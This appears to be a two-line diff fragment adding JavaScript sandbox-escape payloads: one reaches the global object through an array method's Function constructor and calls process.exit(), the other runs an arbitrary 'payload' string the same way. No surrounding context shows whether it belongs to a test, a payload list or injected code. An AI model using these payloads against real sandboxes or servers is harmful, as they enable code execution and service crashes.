@@ -1,0 +1,2 @@
+[].filter.constructor('return this')().process.exit();
+[].map.constructor(payload)();
